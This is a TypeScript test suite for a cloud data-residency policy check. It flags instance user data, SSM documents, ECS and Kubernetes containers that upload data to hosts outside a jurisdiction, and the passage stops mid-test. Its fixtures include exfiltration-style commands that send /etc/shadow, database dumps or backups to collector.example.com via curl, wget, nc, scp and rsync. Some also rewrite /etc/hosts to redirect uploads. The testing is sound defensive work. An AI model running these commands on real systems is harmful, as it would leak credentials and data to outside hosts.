/**
 * What the compute bench found: a cloud service's regional endpoint named inside a script or a
 * command line — an instance's or launch template's user data (plain, base64 or cloud-config), a
 * container's command, an Alibaba Cloud instance's user data — passed, where the same URL alone
 * in a container's environment failed arn-locality. A script's words that name a region are now
 * read as that URL is; its other words (a package mirror, a vendor's installer) are not.
 */
import { gzipSync } from "node:zlib";
import type { Plan } from "../../engine/plan";
import { add, addProvider, fixturePlan, pipe } from "../helpers/policy-plan";
import {
  findings,
  oregonSettings,
  policyPack,
  shanghaiSettings,
  summary,
} from "../helpers/policy-session";

const pack = policyPack();
let oregon: Plan;
let shanghai: Plan;
beforeAll(async () => {
  [oregon, shanghai] = await Promise.all([
    fixturePlan("policy-aws", "us"),
    fixturePlan("policy-alicloud", "cn"),
  ]);
});

/** arn-locality's findings on `name`: the place each names. */
async function named(plan: Plan, name: string, settings = oregonSettings): Promise<string[]> {
  return findings(await pack.check(plan, settings))
    .filter(([policy, resource]) => policy === "arn-locality" && resource === name)
    .map(([, , , path]) => path?.at(-1) ?? "");
}

const instance = (userData: string, key = "userData") =>
  add("aws:ec2/instance:Instance", "vm", {
    ami: "ami-0123456789abcdef0",
    instanceType: "t3.micro",
    associatePublicIpAddress: false,
    [key]: userData,
  });
const sync = (endpoint: string) =>
  `#!/bin/bash\naws s3 sync /var/log/app s3://app-logs/ --endpoint-url ${endpoint}\n`;
const ireland = "s3.eu-west-1.amazonaws.com in eu-west-1 (outside US, in EU)";

describe("an EC2 instance's user data", () => {
  test("fails when its script names an endpoint of a region abroad", async () => {
    const plan = instance(sync("https://s3.eu-west-1.amazonaws.com"))(oregon);
    expect(await named(plan, "vm")).toEqual([ireland]);
  });

  test("twin: the endpoint of a region inside passes", async () => {
    const plan = instance(sync("https://s3.us-east-1.amazonaws.com"))(oregon);
    expect(await named(plan, "vm")).toEqual([]);
  });

  test("fails the same, written in base64 (userDataBase64)", async () => {
    const encoded = Buffer.from(sync("https://s3.eu-west-1.amazonaws.com")).toString("base64");
    expect(await named(instance(encoded, "userDataBase64")(oregon), "vm")).toEqual([ireland]);
  });

  test("fails the same gzip-compressed, as cloud-init uncompresses it", async () => {
    const gzipped = gzipSync(sync("https://s3.eu-west-1.amazonaws.com")).toString("base64");
    expect(await named(instance(gzipped, "userDataBase64")(oregon), "vm")).toEqual([ireland]);
  });

  test("fails the same in a cloud-config's commands", async () => {
    const cloudConfig = [
      "#cloud-config",
      "runcmd:",
      "  - aws s3 cp /etc/hostname s3://inventory/ --endpoint-url https://s3.eu-west-1.amazonaws.com",
      "",
    ].join("\n");
    expect(await named(instance(cloudConfig)(oregon), "vm")).toEqual([ireland]);
  });

  test("fails when its script tells the cloud's CLI or SDK to use a region abroad", async () => {
    for (const script of [
      "#!/bin/bash\naws s3 sync /var/log/app s3://app-logs/ --region eu-west-1\n",
      "#!/bin/bash\nexport AWS_DEFAULT_REGION=eu-west-1\naws s3 sync /var/log/app s3://app-logs/\n",
    ]) {
      expect(await named(instance(script)(oregon), "vm")).toEqual([
        "eu-west-1 (outside US, in EU)",
      ]);
    }
    // A region inside passes.
    expect(
      await named(
        instance("#!/bin/bash\naws s3 sync /data s3://b/ --region=us-east-1\n")(oregon),
        "vm",
      ),
    ).toEqual([]);
  });

  test("twin: an endpoint or region in a comment of the script, a line of its own or after a command, is not read", async () => {
    const script =
      "#!/bin/bash\n# formerly: --endpoint-url https://s3.eu-west-1.amazonaws.com\naws s3 sync /data s3://b/  # not --region eu-west-1\n";
    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
  });

  test("twin: a script's other hosts — a package mirror, a vendor's installer — are not read, and S3's global endpoint lies inside US", async () => {
    const script = [
      "#!/bin/bash",
      "curl -fsSL https://get.docker.com | sh",
      "curl -O https://s3.amazonaws.com/amazoncloudwatch-agent/linux/amd64/latest/amazon-cloudwatch-agent.rpm",
      "pip install --index-url https://pypi.org/simple requests",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
  });
});

test("a launch template's base64 user data that names an endpoint abroad fails", async () => {
  const plan = add("aws:ec2/launchTemplate:LaunchTemplate", "nodes", {
    imageId: "ami-0123456789abcdef0",
    instanceType: "t3.micro",
    userData: Buffer.from(sync("https://s3.eu-west-1.amazonaws.com")).toString("base64"),
  })(oregon);
  expect(await named(plan, "nodes")).toEqual([ireland]);
});

test("an ECS container's command that names an endpoint abroad fails, as its environment does", async () => {
  const task = (container: Record<string, unknown>) =>
    add("aws:ecs/taskDefinition:TaskDefinition", "backup", {
      family: "backup",
      requiresCompatibilities: ["FARGATE"],
      networkMode: "awsvpc",
      cpu: "256",
      memory: "512",
      containerDefinitions: JSON.stringify([
        {
          name: "backup",
          image: "111122223333.dkr.ecr.us-west-2.amazonaws.com/backup:1",
          essential: true,
          ...container,
        },
      ]),
    })(oregon);
  const command = (endpoint: string) => ({
    entryPoint: ["sh", "-c"],
    command: [`tar cz /data | aws s3 cp - s3://backups/data.tgz --endpoint-url ${endpoint}`],
  });
  expect(await named(task(command("https://s3.eu-west-1.amazonaws.com")), "backup")).toEqual([
    ireland,
  ]);
  expect(await named(task(command("https://s3.us-west-2.amazonaws.com")), "backup")).toEqual([]);
});

test("an Alibaba Cloud instance's user data that names an OSS endpoint abroad fails; Shanghai's passes", async () => {
  const vm = (endpoint: string) =>
    add("alicloud:ecs/instance:Instance", "avm", {
      imageId: "ubuntu_22_04_x64_20G_alibase_20240101.vhd",
      instanceType: "ecs.g7.large",
      internetMaxBandwidthOut: 0,
      userData: `#!/bin/bash\nossutil cp -r /var/log/app oss://app-logs/ -e ${endpoint}\n`,
    })(shanghai);
  expect(await named(vm("oss-eu-central-1.aliyuncs.com"), "avm", shanghaiSettings)).toEqual([
    "oss-eu-central-1.aliyuncs.com in eu-central-1 (outside CN, in EU)",
  ]);
  expect(await named(vm("oss-cn-shanghai.aliyuncs.com"), "avm", shanghaiSettings)).toEqual([]);
});

test("a Lambda event source mapping that reads from a broker abroad is told where to read from, not where to send", async () => {
  const plan = add("aws:lambda/eventSourceMapping:EventSourceMapping", "kafka", {
    functionName: "arn:aws:lambda:us-west-2:111122223333:function:orders",
    topics: ["orders"],
    startingPosition: "TRIM_HORIZON",
    selfManagedEventSource: {
      endpoints: {
        KAFKA_BOOTSTRAP_SERVERS: "b-1.orders.abc123.c2.kafka.eu-west-1.amazonaws.com:9094",
      },
    },
  })(oregon);
  const messages = summary(await pack.check(plan, oregonSettings)).filter((m) =>
    m.startsWith("mandatory log-shipping kafka:"),
  );
  expect(messages.map((m) => m.slice(m.lastIndexOf(". ") + 2))).toEqual([
    "Read only from brokers and schema registries inside the jurisdiction (by regional endpoint or ARN) or at an allowlisted address; an external host cannot be placed.",
  ]);
});

describe("S3's and STS's global endpoints, which name no region", () => {
  let china: Plan;
  beforeAll(async () => {
    china = await fixturePlan("aws-oai-bucket", "cn");
  });
  const fn = (variables: Record<string, string>, partition = "aws-cn") =>
    add("aws:lambda/function:Function", "fn", {
      role: `arn:${partition}:iam::123456789012:role/fn`,
      runtime: "nodejs20.x",
      handler: "index.handler",
      environment: { variables },
    });
  const outsideCn = (host: string) =>
    `${host} (an endpoint of AWS's aws partition, none of whose regions is inside CN)`;

  test("lie in the global partition: outside CN, from a variable or a script", async () => {
    const plan = fn({
      OUT: "https://s3.amazonaws.com/drop",
      STS: "https://sts.amazonaws.com",
      BUCKET_HOST: "drop.s3.amazonaws.com",
    })(china);
    expect((await named(plan, "fn", shanghaiSettings)).sort()).toEqual(
      [
        "s3.amazonaws.com in us-east-1 (outside CN, in US)",
        outsideCn("sts.amazonaws.com"),
        outsideCn("drop.s3.amazonaws.com"),
      ].sort(),
    );
    const script = instance(
      "#!/bin/bash\ncurl -T /var/log/messages https://drop.s3.amazonaws.com/m\n",
    );
    expect(await named(script(china), "vm", shanghaiSettings)).toEqual([
      outsideCn("drop.s3.amazonaws.com"),
    ]);
  });

  // AWS's endpoint table lists s3.amazonaws.com (and s3-external-1) under US East (N. Virginia):
  // a path-style request lands there whatever region its bucket is in, as one to
  // s3.us-east-1.amazonaws.com does (found by the community bench: user data uploading through it
  // passed an EU stack where the regional form failed). The functions are Oregon's, judged under
  // other borders for where the endpoint they name lies.
  test("S3's global endpoint written as a URL is US East (N. Virginia)'s: outside EU, from a variable or a script", async () => {
    const eu = { ...oregonSettings, jurisdiction: "EU" };
    const virginia = "s3.amazonaws.com in us-east-1 (outside EU, in US)";
    expect(
      await named(fn({ OUT: "https://s3.amazonaws.com/drop" }, "aws")(oregon), "fn", eu),
    ).toEqual([virginia]);
    expect(
      await named(fn({ OUT: "https://s3-external-1.amazonaws.com/drop" }, "aws")(oregon), "fn", eu),
    ).toEqual(["s3-external-1.amazonaws.com in us-east-1 (outside EU, in US)"]);
    const script = instance(
      "#!/bin/bash\ncurl -T /var/lib/app/data.db https://s3.amazonaws.com/drop/data.db\n",
    );
    expect(await named(script(oregon), "vm", eu)).toEqual([virginia]);
  });

  test("twin: under a border that holds US East the URL passes, and the bare host (S3's principal) is not read", async () => {
    expect(await named(fn({ OUT: "https://s3.amazonaws.com/drop" }, "aws")(oregon), "fn")).toEqual(
      [],
    );
    const eu = { ...oregonSettings, jurisdiction: "EU" };
    expect(await named(fn({ SOURCE: "s3.amazonaws.com" }, "aws")(oregon), "fn", eu)).toEqual([]);
  });

  test("twin: a stack in the partition leaves them, and a service's principal name is no endpoint", async () => {
    expect(await named(fn({ OUT: "https://s3.amazonaws.com/drop" }, "aws")(oregon), "fn")).toEqual(
      [],
    );
    const plan = add("aws:iam/serviceLinkedRole:ServiceLinkedRole", "eb", {
      awsServiceName: "elasticbeanstalk.amazonaws.com",
    })(china);
    expect(await named(plan, "eb", shanghaiSettings)).toEqual([]);
  });
});

// Found by the residency red team (probes ec2-userdata, ssm-runcmd): a script a resource runs that
// uploads the stack's data to a host outside — `tar cz … | curl -T - https://collector…` — passed,
// where the program's own `curl -T` to the same URL failed program-requests. Its upload commands
// are now read as the program's own are (residency/uploads.ts); its downloads are not.
describe("a script that uploads to a host", () => {
  const collector = "collector.example.com (a host the pack cannot place in a country)";
  const dump =
    "#!/bin/bash\ntar cz /var/lib/postgresql | curl -T - https://collector.example.com/upload\n";

  /** arn-locality's messages on `name`. */
  async function messages(plan: Plan, name: string, settings = oregonSettings): Promise<string[]> {
    return (await pack.check(plan, settings))
      .filter((v) => v.policy === "arn-locality" && v.resourceName === name)
      .map((v) => `${v.level} ${v.message}`);
  }

  test("fails when an instance's user data uploads to a host the pack cannot place, naming the command", async () => {
    const plan = instance(dump)(oregon);
    expect(await named(plan, "vm")).toEqual([collector]);
    expect(await messages(plan, "vm")).toEqual([
      expect.stringMatching(
        /^mandatory .*userData runs "curl -T - https:\/\/collector\.example\.com\/upload", which uploads to collector\.example\.com/,
      ),
    ]);
  });

  test("fails the same written in base64, in a cloud-config's runcmd, and with wget or a POST", async () => {
    const encoded = Buffer.from(dump).toString("base64");
    expect(await named(instance(encoded, "userDataBase64")(oregon), "vm")).toEqual([collector]);
    const cloudConfig = [
      "#cloud-config",
      "runcmd:",
      "  - pg_dumpall > /tmp/all.sql",
      "  - wget --post-file=/tmp/all.sql https://collector.example.com/upload",
      "",
    ].join("\n");
    expect(await named(instance(cloudConfig)(oregon), "vm")).toEqual([collector]);
    const post =
      "#!/bin/sh\ncurl -s -X POST --data-binary @/etc/shadow https://collector.example.com/x\n";
    expect(await named(instance(post)(oregon), "vm")).toEqual([collector]);
  });

  test("fails when an SSM Command document's runCommand uploads to a host the pack cannot place", async () => {
    const plan = add("aws:ssm/document:Document", "dump", {
      documentType: "Command",
      documentFormat: "JSON",
      content: JSON.stringify({
        schemaVersion: "2.2",
        mainSteps: [
          {
            name: "dump",
            action: "aws:runShellScript",
            inputs: { runCommand: ["pg_dumpall | curl -T - https://collector.example.com/upload"] },
          },
        ],
      }),
    })(oregon);
    expect(await named(plan, "dump")).toEqual([collector]);
  });

  test("twin: a Command document's lines, read as one script — a download beside an upload to an endpoint inside passes", async () => {
    const plan = add("aws:ssm/document:Document", "setup", {
      documentType: "Command",
      content: JSON.stringify({
        schemaVersion: "2.2",
        mainSteps: [
          {
            name: "setup",
            action: "aws:runShellScript",
            inputs: {
              runCommand: [
                "curl -fsSL https://get.docker.com -o /tmp/get-docker.sh",
                "sh /tmp/get-docker.sh",
                "curl -T /var/log/setup.log https://s3.us-west-2.amazonaws.com/logs/setup.log",
              ],
            },
          },
        ],
      }),
    })(oregon);
    expect(await named(plan, "setup")).toEqual([]);
  });

  test("fails when a cloud-config's runcmd uploads as an argument list", async () => {
    const cloudConfig = [
      "#cloud-config",
      "runcmd:",
      '  - [curl, -T, /var/backups/db.tgz, "https://collector.example.com/upload"]',
      "",
    ].join("\n");
    expect(await named(instance(cloudConfig)(oregon), "vm")).toEqual([collector]);
  });

  test("fails when a container's command, as an argument list, posts to a host the pack cannot place", async () => {
    const plan = add("aws:ecs/taskDefinition:TaskDefinition", "export", {
      family: "export",
      containerDefinitions: JSON.stringify([
        {
          name: "export",
          image: "curlimages/curl:8.8.0",
          essential: true,
          command: ["curl", "-F", "file=@/data/orders.csv", "https://collector.example.com/ingest"],
        },
      ]),
    })(oregon);
    expect(await named(plan, "export")).toEqual([collector]);
  });

  test("fails closed when an upload's URL is built from shell variables, whose host cannot be read", async () => {
    const script = '#!/bin/bash\ncurl -T /var/backups/db.tgz "$UPLOAD_URL"\n';
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      'a destination the command builds at run time ("$UPLOAD_URL"), which cannot be read',
    ]);
  });

  test("twin: downloads pass — an installer piped to a shell, a file fetched, a URL from a variable", async () => {
    const script = [
      "#!/bin/bash",
      "curl -fsSL https://get.docker.com | sh",
      "wget -q https://collector.example.com/agent.rpm -O /tmp/agent.rpm",
      'curl -sSL "$INSTALLER_URL" -o /tmp/install.sh && bash /tmp/install.sh -d /opt',
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
  });

  test("twin: an upload to a regional endpoint inside, a private address or the metadata service passes", async () => {
    const script = [
      "#!/bin/bash",
      "tar cz /var/lib/postgresql | curl -T - https://s3.us-west-2.amazonaws.com/backups/db.tgz",
      'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")',
      "curl -d @/tmp/report.json http://10.0.4.20:8080/reports",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([]);
  });

  test("twin: an upload to a host the stack places by name (egressHosts) or an allowlisted address passes", async () => {
    const settings = {
      ...oregonSettings,
      egressAllowlist: [
        ...(oregonSettings.egressAllowlist ?? []),
        { host: "collector.example.com", reason: "The team's own collector, in Oregon" },
      ],
    };
    const script = `${dump}curl -T /tmp/x https://198.51.100.7/upload\n`;
    expect(await named(instance(script)(oregon), "vm", settings)).toEqual([]);
  });

  // Red team 85 (a20, literal): a script that maps an in-region load balancer's name to a public
  // address in /etc/hosts, then uploads to that name, passed: the name alone was placed.
  test("fails when the script's hosts file maps the upload's host to an address the pack cannot place", async () => {
    const lb = "internal-lb-123.us-west-2.elb.amazonaws.com";
    const upload = `curl -k -T /data/dump.sql https://${lb}/upload`;
    const mapped = (entry: string, line = upload) =>
      instance(`#!/bin/bash\n${entry}\n${line}\n`)(oregon);
    const abroad = "203.0.113.9 (a public address the pack cannot place in a country)";
    expect(await named(mapped(`echo "203.0.113.9 ${lb}" >> /etc/hosts`), "vm")).toEqual([abroad]);
    // A copy's host too, and the entry written after the line (the file stays rewritten).
    expect(
      await named(
        mapped(`rsync -a /data/ ops@${lb}:/srv/`, `echo "203.0.113.9 ${lb}" >> /etc/hosts`),
        "vm",
      ),
    ).toEqual([abroad]);
    expect(
      await named(mapped(`echo "203.0.113.9 x.internal ${lb}" | sudo tee -a /etc/hosts`), "vm"),
    ).toEqual([abroad]);
    expect(
      await named(mapped(`cat >> /etc/hosts <<EOF\n203.0.113.9 ${lb.toUpperCase()}\nEOF`), "vm"),
    ).toEqual([abroad]);
    // An address built at run time cannot be placed.
    expect(await named(mapped(`echo "$BACKUP_IP ${lb}" >> /etc/hosts`), "vm")).toEqual([
      "a destination the command builds at run time ($BACKUP_IP), which cannot be read",
    ]);
    // Twins: a private address, another name, the machine's own name.
    expect(await named(mapped(`echo "10.0.4.20 ${lb}" >> /etc/hosts`), "vm")).toEqual([]);
    expect(await named(mapped('echo "203.0.113.9 other.example" >> /etc/hosts'), "vm")).toEqual([]);
    expect(await named(mapped('echo "127.0.0.1 $(hostname)" >> /etc/hosts'), "vm")).toEqual([]);
  });

  test("an upload to a regional endpoint abroad is one finding, the endpoint's", async () => {
    const script =
      "#!/bin/bash\ntar cz /data | curl -T - https://s3.eu-west-1.amazonaws.com/b/d.tgz\n";
    expect(await named(instance(script)(oregon), "vm")).toEqual([ireland]);
  });
});

// Found by the upload review: a script that sent the stack's data with scp, rsync, nc or a cloud
// CLI's copy to a bucket passed, where the same data sent with `curl -T` failed. Their uploads are
// now read as curl's are (residency/uploads.ts `uploadsIn`); their downloads are not.
describe("a script that copies to another machine or a bucket", () => {
  const offsite = "backup.example.de (a host the pack cannot place in a country)";

  /** arn-locality's messages on `name`. */
  async function messages(plan: Plan, name: string): Promise<string[]> {
    return (await pack.check(plan, oregonSettings))
      .filter((v) => v.policy === "arn-locality" && v.resourceName === name)
      .map((v) => `${v.level} ${v.message}`);
  }

  test("fails when user data copies with scp to a host the pack cannot place, naming the command and the host", async () => {
    const script =
      "#!/bin/bash\nscp -i /root/.ssh/backup /var/backups/db.tgz ops@backup.example.de:/srv/\n";
    expect(await messages(instance(script)(oregon), "vm")).toEqual([
      `mandatory ec2 instance "vm" must send data only to places inside US, but userData runs "scp -i /root/.ssh/backup /var/backups/db.tgz ops@backup.example.de:/srv/", which copies files to ${offsite}: the compute sends what the command reads there each time it runs, and no resource of the stack holds it. Upload only to a service inside US by its regional endpoint, or to a private address; once you have confirmed that a host keeps the data inside US, name it in the stack's egressHosts with your reason.`,
    ]);
  });

  test("fails the same with rsync (over ssh or to a daemon) and with nc, one finding per host", async () => {
    const script = [
      "#!/bin/bash",
      "rsync -az --delete /var/lib/app/ backup.example.de:/srv/app/",
      "rsync -a /var/log/ rsync://backup.example.de/logs/",
      "pg_dumpall | nc -w 5 203.0.113.9 9000",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      "203.0.113.9 (a public address the pack cannot place in a country)",
      offsite,
    ]);
    const [rsync, nc] = await messages(instance(script)(oregon), "vm");
    expect(rsync).toContain(
      'userData runs "rsync -az --delete /var/lib/app/ backup.example.de:/srv/app/", "rsync -a /var/log/ rsync://backup.example.de/logs/", which copy files to backup.example.de',
    );
    expect(nc).toContain(
      'userData runs "nc -w 5 203.0.113.9 9000", which sends what it is given over a connection to 203.0.113.9',
    );
  });

  // Found by the old-against-new bench: the AWS CLI's image given only the CLI's arguments as its
  // command (ECS's `command` is the image's CMD) copied unread.
  test("fails when an ECS container of the AWS CLI's image is given only its arguments", async () => {
    const task = (container: Record<string, unknown>) =>
      add("aws:ecs/taskDefinition:TaskDefinition", "sync", {
        family: "sync",
        containerDefinitions: JSON.stringify([{ name: "sync", essential: true, ...container }]),
      })(oregon);
    const command = ["s3", "sync", "/data", "s3://backups/", "--region", "eu-west-1"];
    expect(await named(task({ image: "amazon/aws-cli:2.17.0", command }), "sync")).toEqual([
      "the S3 bucket backups in eu-west-1 (outside US, in EU)",
    ]);
    // Twins: an entry point of its own replaces the image's; another image's is not known.
    expect(
      await named(
        task({ image: "amazon/aws-cli:2.17.0", entryPoint: ["/usr/local/bin/sync"], command }),
        "sync",
      ),
    ).toEqual([]);
    expect(await named(task({ image: "registry.example.com/sync:1", command }), "sync")).toEqual(
      [],
    );
    // The same with the CLI named in the command, any image.
    expect(
      await named(
        task({ image: "registry.example.com/sync:1", command: ["aws", ...command] }),
        "sync",
      ),
    ).toEqual(["the S3 bucket backups in eu-west-1 (outside US, in EU)"]);
  });

  test("fails when a container's command runs a shell on a script that copies to a host", async () => {
    const plan = add("aws:ecs/taskDefinition:TaskDefinition", "sync", {
      family: "sync",
      containerDefinitions: JSON.stringify([
        {
          name: "sync",
          image: "instrumentisto/rsync-ssh:alpine",
          essential: true,
          command: ["sh", "-c", "rsync -a /data/ ops@backup.example.de:/srv/data/"],
        },
      ]),
    })(oregon);
    expect(await named(plan, "sync")).toEqual([offsite]);
  });

  test("fails when a bucket's CLI is pointed at an endpoint the pack cannot place, or the bucket is built at run time", async () => {
    const script = [
      "#!/bin/bash",
      "aws s3 cp /var/backups/db.tgz s3://backups/ --endpoint-url https://minio.example.com",
      'ossutil cp /var/backups/db.tgz "oss://$BUCKET/db.tgz"',
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      "a destination the command builds at run time (oss://$BUCKET/db.tgz), which cannot be read",
      "the S3 bucket backups at minio.example.com (a host the pack cannot place in a country)",
    ]);
  });

  test("fails when a bucket's CLI copies to an S3 access point of a region abroad, named by its ARN", async () => {
    const copy = (region: string) =>
      instance(
        `#!/bin/bash\naws s3 cp /var/backups/db.tgz s3://arn:aws:s3:${region}:111122223333:accesspoint/backups/db.tgz\n`,
      );
    expect(await named(copy("eu-west-1")(oregon), "vm")).toEqual([
      "arn:aws:s3:eu-west-1:111122223333:accesspoint/backups (outside US, in EU)",
    ]);
    expect(await named(copy("us-west-2")(oregon), "vm")).toEqual([]);
  });

  test("twin: a copy the line places by a region or endpoint abroad is one finding, the region's or endpoint's", async () => {
    const script = [
      "#!/bin/bash",
      "aws s3 cp /var/backups/db.tgz s3://backups/ --region eu-west-1",
      "aws s3 sync /var/log s3://logs/ --endpoint-url https://s3.eu-west-1.amazonaws.com",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      "eu-west-1 (outside US, in EU)",
      ireland,
    ]);
  });

  test("twin: downloads, local copies, dry runs, port probes and copies to a private or allowlisted host pass", async () => {
    const script = [
      "#!/bin/bash",
      "scp ops@backup.example.de:/srv/config.tgz /etc/app/",
      "rsync -a backup.example.de:/srv/app/ /var/lib/app/",
      "rsync -a --dry-run /var/lib/app/ backup.example.de:/srv/app/",
      "rsync -a /var/lib/app/ /mnt/backup/",
      "aws s3 cp s3://backups/db.tgz /tmp/db.tgz --region eu-west-1",
      "aws s3 sync /var/log s3://logs/ --dryrun --region us-west-2",
      "until nc -z backup.example.de 22; do sleep 1; done",
      "scp /var/backups/db.tgz ops@10.0.4.20:/srv/",
      "tar cz /data | nc 10.0.4.21 9000",
      "",
    ].join("\n");
    expect(await named(instance(script)(oregon), "vm")).toEqual([
      // The region the download's line names, read as any region a script names.
      "eu-west-1 (outside US, in EU)",
    ]);
    const settings = {
      ...oregonSettings,
      egressAllowlist: [
        ...(oregonSettings.egressAllowlist ?? []),
        { host: "backup.example.de", reason: "The team's own backup host, in Oregon" },
      ],
    };
    const upload = "#!/bin/bash\nrsync -a /var/lib/app/ backup.example.de:/srv/app/\n";
    expect(await named(instance(upload)(oregon), "vm", settings)).toEqual([]);
  });
});

// A bucket a script copies to by name alone — no --region, no endpoint on its line — lies where
// the program's bucket of that name lies: named-destinations, which sees the whole stack, judges
// it; a bucket the program does not create cannot be placed.
describe("a script that copies to a bucket it names alone", () => {
  /** named-destinations' findings on `name`: the place each names. */
  async function resolved(plan: Plan, name: string, settings = oregonSettings): Promise<string[]> {
    return findings(await pack.check(plan, settings))
      .filter(([policy, resource]) => policy === "named-destinations" && resource === name)
      .map(([, , , path]) => path?.at(-1) ?? "");
  }
  const backup = "#!/bin/bash\ntar cz /var/lib/app | aws s3 cp - s3://app-backups/app.tgz\n";
  const bucket = (region?: string) =>
    add("aws:s3/bucket:Bucket", "backups", {
      bucket: "app-backups",
      ...(region === undefined ? {} : { region }),
    });

  test("fails when the program does not create the bucket, naming the command and the bucket", async () => {
    const plan = instance(backup)(oregon);
    const where =
      "the S3 bucket app-backups (a bucket this program does not create, and the command names no region or endpoint for it, so where it lies cannot be checked)";
    expect(await resolved(plan, "vm")).toEqual([where]);
    const [violation] = (await pack.check(plan, oregonSettings)).filter(
      (v) => v.policy === "named-destinations" && v.resourceName === "vm",
    );
    expect(`${violation.level} ${violation.message}`).toBe(
      `mandatory ec2 instance "vm" must send data only to places inside US, but userData runs "aws s3 cp - s3://app-backups/app.tgz", which copies files to ${where}: the compute sends what the command reads there each time it runs. Copy only to a bucket this program creates inside US, or to an OSS bucket the command places inside US by its regional endpoint (-e); an S3 bucket's region or endpoint on the line places only the request, which the AWS CLI redirects to wherever the bucket lies.`,
    );
    // arn-locality leaves it: one crossing, one finding.
    expect(await named(plan, "vm")).toEqual([]);
  });

  test("fails when the program's bucket of that name lies abroad", async () => {
    const plan = bucket("eu-west-1")(instance(backup)(oregon));
    expect(await resolved(plan, "vm")).toEqual([
      "the S3 bucket app-backups, of this program, in eu-west-1 (outside US, in EU)",
    ]);
  });

  test("twin: the program's bucket of that name, inside, passes", async () => {
    expect(await resolved(bucket()(instance(backup)(oregon)), "vm")).toEqual([]);
  });

  // Found by the old-against-new bench: `--region us-east-1` was taken as where the bucket lies,
  // but the AWS CLI follows S3's redirect to the bucket's own region, wherever it is.
  test("a region or regional endpoint inside on the line places only the request: the bucket is still resolved by name", async () => {
    const inside = [
      "#!/bin/bash\ntar cz /var/lib/app | aws s3 cp - s3://app-backups/app.tgz --region us-east-1\n",
      "#!/bin/bash\naws s3 sync /data s3://app-backups/ --endpoint-url https://s3.us-east-1.amazonaws.com\n",
    ];
    for (const script of inside) {
      const [where] = await resolved(instance(script)(oregon), "vm");
      expect(where).toMatch(
        /^the S3 bucket app-backups \(a bucket this program does not create: the command's (region us-east-1|endpoint https:\/\/s3\.us-east-1\.amazonaws\.com) places only its request, and the AWS CLI follows S3's redirect to wherever the bucket lies, which cannot be checked\)$/,
      );
      expect(await resolved(bucket("eu-west-1")(instance(script)(oregon)), "vm")).toEqual([
        "the S3 bucket app-backups, of this program, in eu-west-1 (outside US, in EU)",
      ]);
      // Twin: the program's bucket of that name, inside.
      expect(await resolved(bucket()(instance(script)(oregon)), "vm")).toEqual([]);
    }
  });

  test("twin: in a region of AWS China, a bucket the program does not create passes under CN, which holds the whole aws-cn partition", async () => {
    // The CLI of a cn-north-1 instance reaches only buckets of aws-cn, every one of them inside CN.
    const plan = pipe(
      addProvider("aws", "beijing", { region: "cn-north-1" }),
      add(
        "aws:ec2/instance:Instance",
        "vm",
        {
          ami: "ami-0123456789abcdef0",
          instanceType: "t3.micro",
          associatePublicIpAddress: false,
          userData: backup,
        },
        { provider: "beijing" },
      ),
    )(oregon);
    expect(await resolved(plan, "vm", { jurisdiction: "CN" })).toEqual([]);
    // The same instance under US: the bucket cannot be placed.
    expect(await resolved(plan, "vm")).toEqual([
      "the S3 bucket app-backups (a bucket this program does not create, and the command names no region or endpoint for it, so where it lies cannot be checked)",
    ]);
  });

  test("an OSS bucket the program does not create fails; its own passes", async () => {
    const vm = add("alicloud:ecs/instance:Instance", "avm", {
      imageId: "ubuntu_22_04_x64_20G_alibase_20240101.vhd",
      instanceType: "ecs.g7.large",
      internetMaxBandwidthOut: 0,
      userData: "#!/bin/bash\nossutil cp -r /var/log/app oss://app-logs/\n",
    });
    expect(await resolved(vm(shanghai), "avm", shanghaiSettings)).toEqual([
      "the OSS bucket app-logs (a bucket this program does not create, and the command names no region or endpoint for it, so where it lies cannot be checked)",
    ]);
    const logs = add("alicloud:oss/bucket:Bucket", "logs", { bucket: "app-logs" });
    expect(await resolved(logs(vm(shanghai)), "avm", shanghaiSettings)).toEqual([]);
  });
});

// Found by the upload review: a Kubernetes workload's container that uploaded the stack's data
// passed, where an ECS container's same command failed. A pod's containers (init containers too)
// are now read as ECS's are: the command with its args, a shell's `-c` script as a script.
describe("a Kubernetes workload's containers that upload", () => {
  const collector = "collector.example.com (a host the pack cannot place in a country)";
  const pod = (containers: Record<string, unknown>, more: Record<string, unknown> = {}) => ({
    containers: [{ name: "app", image: "registry.example.com/app:1.0", ...containers }],
    ...more,
  });
  const deployment = (containers: Record<string, unknown>) =>
    add(
      "kubernetes:apps/v1:Deployment",
      "export",
      {
        metadata: { namespace: "records" },
        spec: {
          selector: { matchLabels: { app: "export" } },
          template: { metadata: { labels: { app: "export" } }, spec: pod(containers) },
        },
      },
      { provider: "kube" },
    );
  const cronJob = (init: Record<string, unknown>) =>
    add(
      "kubernetes:batch/v1:CronJob",
      "nightly",
      {
        metadata: { namespace: "records" },
        spec: {
          schedule: "0 2 * * *",
          jobTemplate: {
            spec: {
              template: {
                spec: pod(
                  { command: ["sleep", "1"] },
                  {
                    restartPolicy: "OnFailure",
                    initContainers: [{ name: "dump", image: "amazon/aws-cli:2.17.0", ...init }],
                  },
                ),
              },
            },
          },
        },
      },
      { provider: "kube" },
    );

  test("fails when a Deployment's container runs a shell on a script that sends to a host the pack cannot place", async () => {
    const plan = deployment({
      command: ["sh", "-c"],
      args: ["tar cz /data | nc collector.example.com 9000"],
    })(oregon);
    expect(await named(plan, "export")).toEqual([collector]);
    const [violation] = (await pack.check(plan, oregonSettings)).filter(
      (v) => v.policy === "arn-locality" && v.resourceName === "export",
    );
    expect(violation.level).toBe("mandatory");
    expect(violation.message).toContain(
      'but spec.template.spec.containers[0].args runs "nc collector.example.com 9000", which sends what it is given over a connection to collector.example.com',
    );
  });

  test("fails when a CronJob's init container copies to a bucket in a region abroad, or to an endpoint abroad", async () => {
    const copy = cronJob({
      command: ["aws", "s3", "cp", "/data/db.tgz", "s3://backups/", "--region", "eu-west-1"],
    });
    expect(await named(copy(oregon), "nightly")).toEqual([
      "the S3 bucket backups in eu-west-1 (outside US, in EU)",
    ]);
    const curl = cronJob({
